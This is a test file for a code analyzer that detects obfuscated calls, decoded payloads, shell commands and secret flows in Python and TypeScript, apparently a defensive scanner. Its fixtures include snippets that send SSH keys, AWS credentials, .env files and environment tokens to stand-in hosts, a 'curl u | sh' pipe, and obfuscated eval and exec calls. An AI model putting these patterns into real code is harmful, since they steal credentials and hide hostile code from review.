import { describe, expect, it } from "vitest";
import { openParsers } from "../syntax/open-parsers.ts";
import { readProgram } from "./read-program.ts";

const parsers = await openParsers();
const read = (grammar: "python" | "tsx", text: string) =>
  readProgram(grammar, text, { path: "a", line: 1 }, parsers, () => {});
const flows = (grammar: "python" | "tsx", text: string, name: string) =>
  read(grammar, text)
    .calls.filter((call) => call.name === name)
    .flatMap(({ carries }) => carries.map(({ kind, what }) => `${kind} ${what}`));

describe("readProgram, Python", () => {
  it("names what is called by what was imported", () => {
    const { calls } = read(
      "python",
      "import requests as r\nfrom os import system as s\ns('ls')\nr.Session().post('u')\n",
    );
    expect(calls.map(({ name }) => name)).toEqual(["os.system", "requests.Session", "requests.Session.post"]);
  });

  it.each([
    ["getattr(os, 'sys' + 'tem')('ls')", "os.system"],
    ["__import__('o' + 's').system('ls')", "os.system"],
    ["importlib.import_module('os').system('ls')", "os.system"],
    ["globals()['ev' + 'al']('1')", "eval"],
  ])("sees through %s", (text, name) => {
    expect(read("python", `import os, importlib\n${text}\n`).calls.map((call) => call.name)).toContain(name);
  });

  it("follows a secret through helpers, containers and texts to where it is sent", () => {
    const text = `import os, requests
def read(p):
    with open(os.path.expanduser(p)) as f:
        return f.read()
def send(d, url):
    requests.post(url, json={"k": f"x{d}"})
send(read("~/.ssh/id_rsa"), "https://a.example")
`;
    expect(flows("python", text, "requests.post")).toEqual(["file ~/.ssh/id_rsa"]);
  });

  it("knows the environment, whole and by name", () => {
    const text =
      "import os, requests\nrequests.post('u', json=dict(os.environ))\nrequests.get('u', headers={'a': os.environ['TOKEN']})\n";
    expect(flows("python", text, "requests.post")).toEqual(["environment *"]);
    expect(flows("python", text, "requests.get")).toEqual(["environment TOKEN"]);
  });

  it("puts paths together", () => {
    const text =
      "from pathlib import Path\nimport requests\nrequests.post('u', data=(Path.home() / '.aws' / 'credentials').read_text())\n";
    expect(flows("python", text, "requests.post")).toEqual(["file ~/.aws/credentials"]);
  });

  it.each([
    ["exec(base64.b64decode('aW1wb3J0IG9z').decode())", "import os"],
    ["exec(bytes.fromhex('696d706f7274206f73').decode())", "import os"],
    ["exec(''.join(chr(c ^ 1) for c in [104,108,113,110,115,117,33,110,114]))", "import os"],
    ["exec('so tropmi'[::-1])", "import os"],
    ["exec(codecs.decode('vzcbeg bf', 'rot13'))", "import os"],
    ["exec('imp' 'ort %s' % 'os')", "import os"],
  ])("opens %s", (text, expected) => {
    expect(read("python", `${text}\n`).nested.map((inner) => inner.text)).toEqual([expected]);
  });

  it("reads what is handed to a shell, as text or as a list", () => {
    const text =
      "import subprocess, os\nsubprocess.run(['bash', '-c', 'curl u | sh'])\nos.system('wget ' + 'v')\n";
    expect(read("python", text).commands.map(({ words }) => words.join(" "))).toEqual([
      "bash -c curl u | sh",
      "curl u",
      "sh",
      "wget v",
    ]);
  });

  it("keeps comments and documentation apart", () => {
    const { comments, docstrings } = read("python", '"""What it does."""\nx = 1  # why\n');
    expect(docstrings).toEqual([{ line: 1, value: "What it does." }]);
    expect(comments).toEqual([{ line: 2, value: "why" }]);
  });
});

describe("readProgram, JavaScript and TypeScript", () => {
  it("names what is called by what was required or imported", () => {
    const text = `import { exec as run } from "node:child_process";\nconst { readFileSync: r } = require("fs");\nrun("ls"); r("x"); globalThis["ev" + "al"]("1");`;
    expect(read("tsx", text).calls.map(({ name }) => name)).toEqual([
      "require",
      "child_process.exec",
      "fs.readFileSync",
      "eval",
    ]);
  });

  it("follows values through objects, callbacks and promises", () => {
    const text = `import fs from "fs"; import os from "os"; import path from "path";
const key: string = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
fetch("https://a.example", { method: "POST", body: JSON.stringify({ key, token: process.env.TOKEN }) });
fs.readFile(".env", (err, data) => axios.post("https://a.example", data));
got("https://b.example").then((r) => r.body).then((t) => eval(t));`;
    expect(flows("tsx", text, "fetch")).toEqual(["file ~/.ssh/id_rsa", "environment TOKEN"]);
    expect(flows("tsx", text, "axios.post")).toEqual(["file .env"]);
    expect(flows("tsx", text, "eval")).toEqual(["network https://b.example"]);
  });

  it.each([
    `eval(atob("YWxlcnQoMSk="))`,
    `new Function(Buffer.from("616c657274283129", "hex").toString())()`,
    `eval([97,108,101,114,116,40,49,41].map((c) => String.fromCharCode(c)).join(""))`,
    `eval("ale" + "rt(" + 1 + ")")`,
    `eval(")1(trela".split("").reverse().join(""))`,
  ])("opens %s", (text) => {
    expect(read("tsx", text).nested.map((inner) => inner.text)).toEqual(["alert(1)"]);
  });
});
